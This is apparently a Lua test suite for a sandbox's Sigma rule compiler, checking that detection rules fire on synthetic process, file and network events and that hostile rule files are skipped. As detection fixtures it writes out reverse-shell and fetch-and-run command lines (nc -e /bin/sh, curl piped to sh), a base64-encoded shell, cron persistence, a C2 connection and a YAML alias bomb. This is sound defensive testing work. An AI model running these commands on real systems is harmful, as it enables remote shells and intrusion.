-- sbx.sigma: Sigma rules (tests/sigma/*.yml, written for these tests)
-- compiled to verdict rules and matched against synthetic runs; the rules
-- it does not support, each skipped with its reason; hostile rule files;
-- the regular expression matcher; and one real box (run.lua --explore)
-- whose facts a process_creation and a file_event rule fire on.
local S = require "support"
local sigma = require "sbx.sigma"
local facts = require "sbx.facts"
local verdict = require "sbx.verdict"

local function compile_file(name)
	local path = "tests/sigma/" .. name .. ".yml"
	local text = assert(S.read(path), path)
	return sigma.compile(text, path)
end

local function by_name(rules)
	local t = {}
	for _, r in ipairs(rules) do t[r.name] = r end
	return t
end

local RULES = {}
for _, f in ipairs { "process_creation", "file_event", "network_connection", "modifiers", "conditions" } do
	for name, r in pairs(by_name((compile_file(f)))) do RULES[name] = r end
end

local function exec(pid, ppid, path, argv, cwd)
	return { kind = "exec", pid = pid, ppid = ppid, path = path, argv = argv, cwd = cwd or "/work",
		answer = "allow" }
end

local function open(pid, path, flags, answer)
	return { kind = "open", pid = pid, path = path, flags = flags, answer = answer or "allow" }
end

local function connect(pid, addr, protocol, family)
	return { kind = "connect", pid = pid, family = family or "inet", addr = addr, protocol = protocol or "tcp",
		answer = "allow" }
end

local function words(s)
	local t = {}
	for w in s:gmatch("%S+") do t[#t + 1] = w end
	return t
end

-- a run of one process running cmdline (image: path, else /usr/bin/ + argv[1])
local function cmd_run(cmdline, path)
	local argv = words(cmdline)
	return { events = { exec(2, 1, path or "/usr/bin/" .. argv[1], argv) } }
end

-- the finding of the rule named sigma.<name> on run (nil: did not fire)
local function fire(name, run)
	local r = assert(RULES["sigma." .. name], name)
	return r.fn(run, facts.of(run))
end

describe("sbx.sigma.compile", function()
	it("compiles every rule of the supported files", function()
		for f, n in pairs { process_creation = 5, file_event = 3, network_connection = 4, modifiers = 14,
			conditions = 10 } do
			local rules, skipped = compile_file(f)
			assert.are.same({}, skipped, f)
			assert.are.equal(n, #rules, f)
		end
	end)

	it("names a rule after its id (else its title), with its doc, techniques, tactic and severity", function()
		local r = RULES["sigma.5b0e7d1c-3f6a-4c52-9d8e-2a7f41c9b0e1"]
		assert.are.same({ "Crontab installed from a temporary file. A crontab is installed from a file "
			.. "under /tmp, a persistence step of droppers (the crontab command, or a shell command line that runs "
			.. "it).", { "T1053.003" }, "persistence", 7 },
			{ r.doc, r.attack, r.tactic, r.severity })
		r = RULES["sigma.Shell_started_by_a_Python_interpreter"]
		assert.are.same({ { "T1059.004" }, "execution", 5 }, { r.attack, r.tactic, r.severity })
		assert.are.same({ {}, 9, "command-and-control" }, { RULES["sigma.Mod_lt"].attack,
			RULES["sigma.7e21c9a4-5d3b-4f08-b6a2-9c1e4d7f3a55"].severity,
			RULES["sigma.7e21c9a4-5d3b-4f08-b6a2-9c1e4d7f3a55"].tactic })
	end)

	it("maps each level to a severity and a verdict (medium when none)", function()
		local run = cmd_run("sh -c x", "/bin/sh")
		for level, want in pairs { informational = { 1, "info" }, low = { 3, "suspicious" },
			medium = { 5, "suspicious" }, high = { 7, "malicious" }, critical = { 9, "malicious" },
			[""] = { 5, "suspicious" } } do
			local text = "title: L\nlogsource: {product: linux, category: process_creation}\n"
				.. "detection: {s: {Image: /bin/sh}, condition: s}\n" .. (level ~= "" and "level: " .. level .. "\n" or "")
			local rules = sigma.compile(text, "l.yml")
			local f = rules[1].fn(run)
			assert.are.same(want, { rules[1].severity, f.verdict }, level)
			assert.are.equal(want[1], f.severity)
		end
	end)

	it("makes rules sbx.verdict accepts and judges with", function()
		for _, r in pairs(RULES) do assert.are.equal(r, (verdict.check_rule(r))) end
		local rules = compile_file("process_creation")
		local v = verdict.judge({ events = { exec(2, 1, "/usr/bin/crontab", { "crontab", "/tmp/x" }) } }, rules)
		assert.are.same({ "malicious", 7, {} }, { v.verdict, v.severity, v.errors })
		assert.are.same({ rule = "sigma.5b0e7d1c-3f6a-4c52-9d8e-2a7f41c9b0e1", attack = { "T1053.003" } },
			{ rule = v.reasons[1].rule, attack = v.reasons[1].attack })
	end)

	it("exports the fields of each category and the modifiers", function()
		assert.are.same({ "TargetFilename", "Image" }, sigma.FIELDS.file_event)
		assert.are.equal(8, #sigma.FIELDS.process_creation)
		assert.are.equal(6, #sigma.FIELDS.network_connection)
		local mods = {}
		for _, m in ipairs(sigma.MODIFIERS) do mods[m] = true end
		for _, m in ipairs { "contains", "startswith", "endswith", "all", "re", "cidr", "windash", "base64",
			"base64offset", "exists" } do
			assert.truthy(mods[m], m)
		end
	end)

	it("raises for misuse only", function()
		assert.has_error(function() sigma.compile(42) end, "bad argument #1 to 'compile' (string expected, got number)")
		assert.has_error(function() sigma.compile(nil) end, "bad argument #1 to 'compile' (string expected, got nil)")
		assert.has_error(function() sigma.compile("", {}) end, "bad argument #2 to 'compile' (string expected, got table)")
	end)
end)

describe("sbx.sigma process_creation", function()
	it("fires on a crontab installed from /tmp and quotes the event", function()
		local f = fire("5b0e7d1c-3f6a-4c52-9d8e-2a7f41c9b0e1", { events = {
			exec(2, 1, "/usr/bin/crontab", { "crontab", "/tmp/x" }) } })
		assert.are.same({ verdict = "malicious", severity = 7, count = 1, attack = { "T1053.003" },
			reason = "sigma Crontab installed from a temporary file (5b0e7d1c-3f6a-4c52-9d8e-2a7f41c9b0e1): "
				.. 'Image=/usr/bin/crontab CommandLine="crontab /tmp/x"' }, f)
		assert.truthy(fire("5b0e7d1c-3f6a-4c52-9d8e-2a7f41c9b0e1", cmd_run("sh -c id;crontab /tmp/x", "/bin/sh")))
		assert.is_nil(fire("5b0e7d1c-3f6a-4c52-9d8e-2a7f41c9b0e1", cmd_run("crontab -l")))
		assert.is_nil(fire("5b0e7d1c-3f6a-4c52-9d8e-2a7f41c9b0e1", cmd_run("mycrontab /tmp/x")))
	end)

	it("matches a parent's image with a wildcard and a list of images", function()
		local function run(parent, child)
			return { events = { exec(2, 1, parent, { "python3", "x.py" }), exec(3, 2, child, { "sh", "-c", "id" }) } }
		end
		assert.truthy(fire("Shell_started_by_a_Python_interpreter", run("/usr/bin/python3.11", "/bin/sh")))
		assert.truthy(fire("Shell_started_by_a_Python_interpreter", run("/usr/bin/python3", "/usr/bin/dash")))
		assert.is_nil(fire("Shell_started_by_a_Python_interpreter", run("/usr/bin/perl", "/bin/sh")))
		assert.is_nil(fire("Shell_started_by_a_Python_interpreter", run("/usr/bin/python3", "/usr/bin/zsh")))
	end)

	it("takes escaped wildcards as themselves", function()
		assert.truthy(fire("Literal_star_in_an_echo", cmd_run("echo *?")))
		assert.is_nil(fire("Literal_star_in_an_echo", cmd_run("echo ab")))
	end)

	it("has the user, the directory and the pids (compared as numbers too)", function()
		local run = { events = { exec(42, 1, "/usr/bin/id", { "id" }, "/work") } }
		assert.truthy(fire("Program_run_from_the_home_directory", run))
		assert.are.equal("info", fire("Program_run_from_the_home_directory", run).verdict)
		assert.is_nil(fire("Program_run_from_the_home_directory", { events = { exec(42, 1, "/usr/bin/id", { "id" }, "/tmp") } }))
		assert.is_nil(fire("Program_run_from_the_home_directory", { events = { exec(43, 1, "/usr/bin/id", { "id" }) } }))
	end)

	it("takes null as a field that is absent", function()
		assert.truthy(fire("First_process_of_the_run", { events = { exec(2, 1, "/bin/sh", { "sh" }) } }))
		assert.is_nil(fire("First_process_of_the_run", { events = {
			exec(2, 1, "/usr/bin/env", { "env", "sh" }), exec(3, 2, "/bin/sh", { "sh" }) } }))
	end)
end)

describe("sbx.sigma file_event", function()
	local CRON = "0c6d2a4e-8b1f-4e73-a5d9-6f3e2b7c1d08"

	it("fires on a write the kernel refused, quotes it and counts the others", function()
		local run = { events = { exec(3, 1, "/usr/bin/crontab", { "crontab", "-" }),
			open(3, "/etc/cron.d/x", 577, "deny"), open(3, "/var/spool/cron/crontabs/sbx", 1, "deny") } }
		local f = fire(CRON, run)
		assert.are.same({ "malicious", 7, 2 }, { f.verdict, f.severity, f.count })
		assert.are.equal("sigma Cron file written (" .. CRON .. "): TargetFilename=/etc/cron.d/x "
			.. "Image=/usr/bin/crontab (2 in all)", f.reason)
	end)

	it("does not fire on a read, nor on a write elsewhere", function()
		assert.is_nil(fire(CRON, { events = { open(3, "/etc/crontab", 0) } }))
		assert.is_nil(fire(CRON, { events = { open(3, "/etc/hosts", 577) } }))
	end)

	it("counts a file the box left, and a path written twice once", function()
		local run = { events = { open(3, "/tmp/y", 577), open(3, "/tmp/y", 577) },
			files_dropped = { { path = "/tmp/y", mode = "644", size = 3 }, { path = "/tmp/z", mode = "644" } } }
		local f = fire("File_written_under_tmp", run)
		assert.are.equal("sigma File written under tmp: TargetFilename=/tmp/y (2 in all)", f.reason)
		assert.is_nil(fire("File_written_under_tmp", { files_dropped = { { path = "/tmp/a/b", mode = "644" } } }))
	end)

	it("matches the image that wrote", function()
		local function run(image)
			return { events = { exec(3, 1, image, { "x" }), open(3, "/work/.bashrc", 1 | 1024) } }
		end
		assert.truthy(fire("Shell_profile_changed_by_a_shell", run("/bin/bash")))
		assert.is_nil(fire("Shell_profile_changed_by_a_shell", run("/usr/bin/python3")))
	end)
end)

describe("sbx.sigma network_connection", function()
	local C2 = "7e21c9a4-5d3b-4f08-b6a2-9c1e4d7f3a55"

	it("fires on a connection to a private address on a shell port, with its host name", function()
		local run = { events = { exec(4, 1, "/usr/bin/nc", { "nc", "10.0.0.2", "4444" }), connect(4, "10.0.0.2:4444") },
			dns_lookups = { { hostname = "c2.example", answer = "10.0.0.2" } },
			ip_traffic = { { protocol = "tcp", address = "10.0.0.2", port = 4444, bytes = 10 } } }
		local f = fire(C2, run)
		assert.are.same({ verdict = "malicious", severity = 9, count = 1, attack = { "T1571" },
			reason = "sigma Connection to a private address on a shell port (" .. C2 .. "): "
				.. "DestinationIp:Port=10.0.0.2:4444 Protocol=tcp DestinationHostname=c2.example Image=/usr/bin/nc" }, f)
	end)

	it("matches IPv6 and not a public address or another port", function()
		local f = fire(C2, { events = { connect(4, "[fd00::5]:1337", "tcp", "inet6") } })
		assert.truthy(f.reason:find("DestinationIp:Port=[fd00::5]:1337", 1, true))
		assert.is_nil(fire(C2, { events = { connect(4, "8.8.8.8:4444") } }))
		assert.is_nil(fire(C2, { events = { connect(4, "10.0.0.2:80") } }))
	end)

	it("reads the sink's traffic when no connection names it", function()
		local run = { dns_lookups = { { hostname = "x.paste.example", answer = "10.9.9.9" } },
			ip_traffic = { { protocol = "tcp", address = "10.9.9.9", port = 443, bytes = 10 } } }
		assert.are.equal("sigma Lookup of a paste site: DestinationIp:Port=10.9.9.9:443 Protocol=tcp "
			.. "DestinationHostname=x.paste.example", fire("Lookup_of_a_paste_site", run).reason)
		run.dns_lookups[1].hostname = "paste.example.org"
		assert.is_nil(fire("Lookup_of_a_paste_site", run))
	end)

	it("compares ports as numbers", function()
		local function port(p) return { events = { connect(4, "10.1.1.1:" .. p) } } end
		assert.truthy(fire("High_destination_port", port(31337)))
		assert.is_nil(fire("High_destination_port", port(65000)))
		assert.is_nil(fire("High_destination_port", port(80)))
		assert.truthy(fire("Port_given_with_a_leading_zero", port(80)))
		assert.is_nil(fire("Port_given_with_a_leading_zero", port(8080)))
	end)
end)

describe("sbx.sigma modifiers", function()
	-- rule, command lines it fires on, command lines it does not
	local CASES = {
		{ "Mod_contains", { "curl http://x", "/usr/bin/CURL -s x" }, { "wget http://x", "curl" } },
		{ "Mod_all", { "nc -e /bin/sh 10.0.0.2 4444" }, { "nc -l 4444 /bin/sh", "nc -e /bin/bash" } },
		{ "Mod_re", { "curl -s http://x/i.sh | sh", "wget -O- x |bash" }, { "curl x | tee sh.log", "CURL x | SH" } },
		{ "Mod_re_i", { "echo aGk= | BASE64 -D", "base64 --decode f" }, { "base64 f" } },
		{ "Mod_re_all", { "chmod +x /tmp/a" }, { "chmod 644 /tmp/a", "sh chmod +x" } },
		{ "Mod_windash", { "find / -exec rm {} ;", "find / /exec rm", "find / \u{2013}exec rm", "find / \u{2014}exec rm" },
			{ "find / exec rm", "find /-exec rm", "find / +exec rm" } },
		{ "Mod_base64", { "echo d2hvYW1pOyBpZA== | base64 -d | sh", "echo d2hvYW1p" }, { "echo ZDJodmIy", "echo D2HVYW1P" } },
		{ "Mod_base64offset", { "echo ZXhlYyAvYmluL3NoIC1p", "echo YWV4ZWMgL2Jpbi9zaCAtaQ==", "echo YWJleGVjIC9iaW4vc2ggLWk=" },
			{ "echo L2Jpbi9iYXNo", "echo /bin/sh" } },
		{ "Mod_cased", { "export K=AKIAXYZ" }, { "export K=akiaxyz" } },
	}
	for _, c in ipairs(CASES) do
		it(c[1]:gsub("_", " ", 1), function()
			for _, cmd in ipairs(c[2]) do assert.truthy(fire(c[1], cmd_run(cmd)), cmd) end
			for _, cmd in ipairs(c[3]) do assert.is_nil(fire(c[1], cmd_run(cmd)), cmd) end
		end)
	end

	it("Mod startswith, endswith (images)", function()
		assert.truthy(fire("Mod_startswith", cmd_run("x", "/tmp/.x/payload")))
		assert.is_nil(fire("Mod_startswith", cmd_run("x", "/usr/bin/tmp")))
		assert.truthy(fire("Mod_endswith", cmd_run("x", "/usr/bin/ncat")))
		assert.is_nil(fire("Mod_endswith", cmd_run("x", "/usr/bin/ncx")))
	end)

	it("Mod exists", function()
		assert.truthy(fire("Mod_exists", { events = { exec(2, 1, "/bin/sh", { "sh" }) } }))
		assert.is_nil(fire("Mod_exists", { events = { exec(2, 1, "/usr/bin/env", { "env" }), exec(3, 2, "/bin/sh", { "sh" }) } }))
	end)

	it("Mod cidr (IPv4, IPv6, IPv4-mapped)", function()
		for _, a in ipairs { "172.20.1.1:80", "[2001:db8::1]:80", "[::ffff:172.16.0.1]:80" } do
			assert.truthy(fire("Mod_cidr", { events = { connect(4, a, "tcp", a:find("%[") and "inet6" or "inet") } }), a)
		end
		for _, a in ipairs { "172.32.0.1:80", "[2001:db9::1]:80", "[::1]:80" } do
			assert.is_nil(fire("Mod_cidr", { events = { connect(4, a, "tcp", a:find("%[") and "inet6" or "inet") } }), a)
		end
	end)

	it("Mod lt", function()
		assert.truthy(fire("Mod_lt", { events = { connect(4, "10.1.1.1:53", "udp") } }))
		assert.is_nil(fire("Mod_lt", { events = { connect(4, "10.1.1.1:5353", "udp") } }))
		assert.is_nil(fire("Mod_lt", { events = { connect(4, "10.1.1.1:53", "tcp") } }))
	end)
end)

describe("sbx.sigma conditions", function()
	-- rule, then command lines and whether it fires (image /usr/bin/x,
	-- or the third field)
	local CASES = {
		{ "Cond_and_not", { "aaa", true }, { "aaa bbb", false }, { "bbb", false } },
		{ "Cond_or", { "aaa", true }, { "bbb", true }, { "ccc", false } },
		{ "Cond_parentheses", { "aaa", true }, { "bbb", true }, { "aaa ccc", false }, { "ccc", false } },
		{ "Cond_precedence", { "bbb", true }, { "aaa bbb", false }, { "ccc", true }, { "aaa ccc", true }, { "aaa", false } },
		{ "Cond_one_of_pattern", { "aaa", true }, { "bbb", true }, { "aaa ccc", false }, { "ccc", false } },
		{ "Cond_all_of_pattern", { "aaa bbb", true }, { "aaa", false }, { "bbb", false } },
		{ "Cond_one_of_them", { "aaa", true }, { "bbb", true }, { "ccc", false } },
		{ "Cond_all_of_them", { "aaa bbb", true }, { "aaa", false }, { "ccc", false } },
		{ "Cond_list", { "aaa", true }, { "ccc", true }, { "bbb", false } },
		{ "Cond_list_of_maps", { "aaa", true }, { "x", true, "/opt/ccc" }, { "bbb", false } },
	}
	for _, c in ipairs(CASES) do
		it(c[1]:gsub("_", " "), function()
			for i = 2, #c do
				local cmd, want, image = c[i][1], c[i][2], c[i][3]
				assert.are.equal(want, fire(c[1], cmd_run("x " .. cmd, image)) ~= nil, cmd)
			end
		end)
	end

	it("evaluates a condition on each event alone", function()
		local run = { events = { exec(2, 1, "/usr/bin/x", { "x", "aaa" }), exec(3, 1, "/usr/bin/x", { "x", "bbb" }) } }
		assert.truthy(fire("Cond_and_not", run))
		assert.is_nil(fire("Cond_all_of_pattern", run))
	end)
end)

describe("sbx.sigma unsupported rules", function()
	local WHY = {
		["Bad unknown field"] = "unknown field 'Hashes' for category process_creation",
		["Bad field of another category"] = "unknown field 'CommandLine' for category file_event",
		["Bad category"] = "unsupported logsource: category 'dns_query' (only process_creation, file_event, "
			.. "network_connection)",
		["Bad product"] = "unsupported logsource: product 'windows' (only linux)",
		["Bad service"] = "unsupported logsource: service 'auditd' (only categories process_creation, file_event, "
			.. "network_connection)",
		["Bad no product"] = "unsupported logsource: no product (only linux)",
		["Bad keywords"] = "keyword selection 'keywords' (values without a field) is not supported",
		["Bad keywords all"] = "keyword selection 'keywords' (values without a field) is not supported",
		["Bad aggregation"] = "aggregation in the condition ('| count() by ParentImage > 5') is not supported",
		["Bad near"] = "'near' in the condition is not supported",
		["Bad timeframe"] = "timeframe (an aggregation) is not supported",
		["Bad unknown modifier"] = "unknown modifier 'containz'",
		["Bad unsupported modifier"] = "unsupported modifier 'utf16le'",
		["Bad modifier combination"] = "modifier 're' cannot be combined with the others of 'CommandLine|contains|re'",
		["Bad regex"] = "regex '(curl|wget': missing )",
		["Bad regex backreference"] = "regex '(a)\\1': backreferences are not supported",
		["Bad regex lookahead"] = "regex 'curl(?! -s)': unsupported group '(?!'",
		["Bad condition selection"] = "bad condition 'selection and filter': no selection 'filter'",
		["Bad condition pattern"] = "bad condition '1 of filter_*': 'filter_*' names no selection",
		["Bad condition syntax"] = "bad condition '(selection and': it ends too soon",
		["Bad condition one of"] = "bad condition '1 of': '1 of' what?",
		["Bad base64 wildcard"] = "modifier 'base64' on a value with wildcards ('*whoami*')",
		["Bad cidr"] = "bad CIDR '10.0.0.0/33'",
		["Bad level"] = "unknown level 'severe'",
		["(none)"] = "a rule needs a title",
		["Bad empty selection"] = "selection 'selection' is empty",
		["Bad no condition"] = "the detection has no condition",
		["Bad correlation"] = "correlation rules are not supported",
		["Bad status"] = "the rule's status is 'unsupported'",
		["Bad value map"] = "the value of field Image must be a scalar or a list of scalars",
		["Duplicate id two"] = "a second rule named sigma.9a8b7c6d-0000-4000-8000-000000000001 in the file",
	}

	it("skips each with its reason, its source, title and id", function()
		local rules, skipped = compile_file("unsupported")
		assert.are.same({ "sigma.9a8b7c6d-0000-4000-8000-000000000001" }, { rules[1].name, rules[2] })
		local got = {}
		for _, s in ipairs(skipped) do
			assert.are.equal("tests/sigma/unsupported.yml", s.source)
			got[s.title or "(none)"] = s.why
		end
		assert.are.same(WHY, got)
		assert.are.equal(31, #skipped)
		assert.are.equal("2b9f3c71-6e0a-4d8b-9a5c-1f7e3d2c8b40", skipped[28].id)
	end)

	it("skips a malformed file as one entry", function()
		local rules, skipped = compile_file("malformed")
		assert.are.same({}, rules)
		assert.are.same({ { source = "tests/sigma/malformed.yml",
			why = "malformed YAML: 3:1: found unexpected end of stream" } }, skipped)
	end)

	it("refuses modifiers that do not go together or do not fit their value", function()
		local function why(sel)
			local _, sk = sigma.compile("title: T\nlogsource: {product: linux, category: process_creation}\n"
				.. "detection:\n  s:\n    " .. sel .. "\n  condition: s\n")
			return sk[1] and sk[1].why
		end
		assert.are.equal("unknown modifier 'i'", why("CommandLine|contains|i: x"))
		assert.are.equal("modifier 'contains' cannot be combined with the others of 'CommandLine|re|contains'",
			why("CommandLine|re|contains: x"))
		assert.are.equal("an empty modifier in 'Image|'", why("'Image|': x"))
		assert.are.equal("exists takes true or false (field Image)", why("Image|exists: maybe"))
		assert.are.equal("modifier 'lt' needs a number, not 'x'", why("ProcessId|lt: x"))
		assert.are.equal("a null value with modifiers (field Image)", why("Image|contains: null"))
		assert.are.equal("an empty list of values for field Image", why("Image: []"))
		assert.are.equal("modifier 'windash' cannot be combined with the others of 'Image|cidr|windash'",
			why("Image|cidr|windash: x"))
		assert.are.equal("bad condition 's and or s': unexpected 'or'",
			select(2, sigma.compile("title: T\nlogsource: {product: linux, category: process_creation}\n"
				.. "detection: {s: {Image: x}, condition: s and or s}\n"))[1].why)
	end)
end)

describe("sbx.sigma regular expressions", function()
	local function m(re, flags) return assert(sigma.regex(re, flags)) end

	it("matches the subset of PCRE the specification names", function()
		local yes = { { "^a.c$", "abc" }, { "^a.c$", "a\u{e9}c" }, { "foo|bar", "xbarx" }, { "^(ab)+$", "ababab" },
			{ "\\d{3}-\\d{2,}", "x123-456" }, { "^[a-c_]+z", "c_az" }, { "[^0-9]", "1a" }, { "\\bcat\\b", "a cat!" },
			{ "a{2,3}$", "caaa" }, { "x$", "x\n" }, { "^(?:ht|f)tps?://", "https://x" }, { "\\s\\S\\W", "a b!" },
			{ "(?i)HELLO", "say hello" }, { "\\x41\\.\\*", "A.*" }, { "^$", "" }, { "a?", "" } }
		for _, c in ipairs(yes) do assert.is_true(m(c[1])(c[2]), c[1] .. " " .. c[2]) end
		local no = { { "^(ab)+$", "ababa" }, { "\\bcat\\b", "concat" }, { "^b", "a\nb" }, { "a.b", "a\nb" },
			{ "[^0-9]", "123" }, { "HELLO", "hello" }, { "^a{2}$", "aaa" }, { "x$", "x\n\n" } }
		for _, c in ipairs(no) do assert.is_false(m(c[1])(c[2]), c[1] .. " " .. c[2]) end
	end)

	it("takes the flags i, m and s", function()
		assert.is_true(m("hello", "i")("HeLLo"))
		assert.is_true(m("^b$", "m")("a\nb\nc"))
		assert.is_true(m("a.b", "s")("a\nb"))
	end)

	it("refuses what it cannot translate, with the reason", function()
		for re, why in pairs {
			["(?<=a)b"] = "regex '(?<=a)b': unsupported group '(?<'",
			["a++"] = "regex 'a++': possessive quantifiers are not supported",
			["\\p{L}"] = "regex '\\p{L}': unsupported escape \\p",
			["[[:alpha:]]"] = "regex '[[:alpha:]]': POSIX classes ([:name:]) are not supported",
			["*a"] = "regex '*a': nothing to repeat",
			["a)"] = "regex 'a)': unbalanced )",
			["[a-"] = "regex '[a-': missing ]",
			["a{5,2}"] = "regex 'a{5,2}': bad {n,m} count",
			["(a{1000}){1000}"] = "regex '(a{1000}){1000}': too complex",
			["a{1001}"] = "regex 'a{1001}': bad {n,m} count",
			["x(?i)y"] = "regex 'x(?i)y': unsupported group '(?i'",
		} do
			assert.are.same({ nil, why }, { sigma.regex(re) }, re)
		end
		assert.has_error(function() sigma.regex(1) end, "bad argument #1 to 'regex' (string expected, got number)")
	end)

	it("takes time linear in the text, whatever the expression", function()
		local a = ("a"):rep(20000)
		assert.is_false(m("^(a|aa)*b$")(a))
		assert.is_false(m("(a*)*b")(a))
		assert.is_false(m("(x+x+)+y")(("x"):rep(5000)))
	end)
end)

describe("sbx.sigma hostile input", function()
	local function why(text)
		local rules, skipped = sigma.compile(text, "h.yml")
		assert.are.same({}, rules)
		assert.are.equal(1, #skipped)
		assert.are.equal("h.yml", skipped[1].source)
		return skipped[1].why
	end
	local HEAD = "title: T\nlogsource: {product: linux, category: process_creation}\n"

	it("skips an empty text, binary garbage and a document that is not a map", function()
		assert.are.equal("no YAML document", why(""))
		assert.are.equal("no YAML document", why("# only a comment\n"))
		assert.are.equal("malformed YAML: 0:0: control characters are not allowed", why("\0\1\2\255::[["))
		local bytes = {}
		for i = 0, 4095 do bytes[#bytes + 1] = string.char((i * 7919) % 256) end
		assert.truthy(why(table.concat(bytes)):find("^malformed YAML: "))
		assert.are.equal("a rule must be a YAML map", why("42"))
		assert.are.equal("a rule must be a YAML map", why("- a\n- b\n"))
		assert.are.equal("an empty YAML document", why("---\n...\n"))
	end)

	it("skips a document nested too deep, an alias bomb and an alias of itself", function()
		assert.are.equal("nested deeper than 64 levels", why(("["):rep(100000) .. ("]"):rep(100000)))
		assert.are.equal("nested deeper than 64 levels", why(("{a: "):rep(50000) .. "1" .. ("}"):rep(50000)))
		local lines, prev = { 'a0: &a0 ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]' }, "a0"
		for i = 1, 9 do
			local n = "a" .. i
			lines[#lines + 1] = ("%s: &%s [%s]"):format(n, n, ("*" .. prev .. ","):rep(9):sub(1, -2))
			prev = n
		end
		assert.are.equal("more than 250000 YAML nodes (aliases expanded)", why(table.concat(lines, "\n")))
		assert.are.equal("alias *x refers to itself", why("a: &x [*x]"))
		assert.are.equal("alias *d refers to itself",
			why(HEAD .. "detection: &d {s: {Image: x}, condition: s, more: *d}\n"))
	end)

	it("compiles a 1 MB rule, and skips a text over 2 MiB", function()
		local lines = { HEAD .. "detection:\n  s:\n    CommandLine|contains:" }
		for i = 1, 60000 do lines[#lines + 1] = "      - value" .. i end
		lines[#lines + 1] = "  condition: s\n"
		local text = table.concat(lines, "\n")
		assert.truthy(#text > 1000000)
		local rules, skipped = sigma.compile(text, "big.yml")
		assert.are.same({ 1, {} }, { #rules, skipped })
		assert.truthy(rules[1].fn(cmd_run("x value59999")))
		assert.is_nil(rules[1].fn(cmd_run("x other")))
		assert.are.equal("text over 2097152 bytes", why(("#"):rep(3 << 20)))
		assert.are.equal("a rule needs a logsource (a map)", why("title: " .. ("x"):rep(1 << 20)))
	end)

	it("bounds the regular expressions of a file and their work on a run", function()
		local docs = {}
		for i = 1, 110 do
			docs[i] = ("title: R%d\nlogsource: {product: linux, category: process_creation}\n"
				.. "detection: {s: {CommandLine|re: '(?:a{99}){5}'}, condition: s}\n"):format(i)
		end
		local rules, skipped = sigma.compile(table.concat(docs, "---\n"), "re.yml")
		assert.are.same({ 100, 10 }, { #rules, #skipped })
		assert.are.same({ source = "re.yml", title = "R101", why = "regex '(?:a{99}){5}': the file's regular "
			.. "expressions take over 50000 instructions" }, skipped[1])
		assert.truthy(rules[1].fn(cmd_run("x " .. ("a"):rep(495))))
		assert.is_nil(rules[1].fn(cmd_run("x " .. ("a"):rep(494))))
		assert.are.equal("regex '" .. ("x"):rep(77) .. "...': longer than 4096 characters",
			why(HEAD .. "detection: {s: {CommandLine|re: '" .. ("x"):rep(5000) .. "'}, condition: s}\n"))
		-- about 130,000 steps an event: 50 events take more than the 5,000,000 a rule may
		local slow = sigma.compile(HEAD .. "detection: {s: {CommandLine|re: 'a{1,999}b'}, condition: s}\n")[1]
		local run = { events = {} }
		for i = 1, 50 do run.events[i] = exec(i + 1, 1, "/usr/bin/x", { ("a"):rep(510) }) end
		local v = verdict.judge(run, { slow })
		assert.are.same({ { rule = "sigma.T", error = "sigma: regular expressions took over 5000000 steps" } }, v.errors)
	end)

	it("skips a bad condition, a huge one and one nested too deep", function()
		local function cond(c) return why(HEAD .. "detection:\n  s: {Image: x}\n  condition: '" .. c .. "'\n") end
		assert.are.equal("bad condition '1 of': '1 of' what?", cond("1 of"))
		assert.are.equal("bad condition '': it ends too soon", cond(""))
		assert.are.equal("bad condition 's s': unexpected 's'", cond("s s"))
		assert.are.equal("bad condition 's, s': unexpected ','", cond("s, s"))
		assert.are.equal("a condition longer than 4096 characters", cond(("s or "):rep(1000) .. "s"))
		assert.truthy(cond(("not "):rep(500) .. "s"):find("nested too deep$"))
		assert.truthy(cond(("("):rep(500) .. "s" .. (")"):rep(500)):find("nested too deep$"))
		assert.are.equal("the detection has no condition", why(HEAD .. "detection: {s: {Image: x}, condition: []}\n"))
		assert.are.equal("a condition must be text or a list of texts",
			why(HEAD .. "detection: {s: {Image: x}, condition: {a: b}}\n"))
	end)

	it("skips odd keys and values without raising", function()
		assert.are.equal("a rule needs a title", why("? [a]\n: b\n"))
		assert.are.equal("a key that is not text (table)", why(HEAD .. "detection: {s: {[a]: x}, condition: s}\n"))
		assert.are.equal("a rule needs a detection (a map)", why(HEAD .. "detection: 5\n"))
		assert.are.equal("tags must be a list",
			why(HEAD .. "detection: {s: {Image: x}, condition: s}\ntags: attack.t1059\n"))
		local rules = sigma.compile(HEAD .. "detection: {s: {ProcessId: !!int 2, Image: !!str 5}, condition: s}\n")
		assert.are.equal(1, #rules)
	end)
end)

describe("sbx.sigma on a real box", function()
	S.leak_check(before_each, after_each, assert)

	it("fires a process_creation and a file_event rule on run.lua --explore's facts", function()
		local _, err, code, res = S.json_run("--explore", "sh", "-c", "crontab /tmp/x; echo hi > /tmp/y")
		assert.truthy(res, err)
		assert.are.equal(0, code, err)
		local F = facts.of(res)
		local rules = by_name((compile_file("process_creation")))
		for _, r in ipairs((compile_file("file_event"))) do rules[r.name] = r end
		-- crontab is not installed: the shell's command line is the event
		local f = rules["sigma.5b0e7d1c-3f6a-4c52-9d8e-2a7f41c9b0e1"].fn(res, F)
		assert.truthy(f, err)
		assert.truthy(f.reason:find('CommandLine="sh -c crontab /tmp/x; echo hi > /tmp/y"', 1, true), f.reason)
		f = rules["sigma.File_written_under_tmp"].fn(res, F)
		assert.truthy(f, err)
		assert.are.equal(1, f.count)
		assert.truthy(f.reason:find("^sigma File written under tmp: TargetFilename=/tmp/y Image=/%S*dash$"), f.reason)
	end)
end)
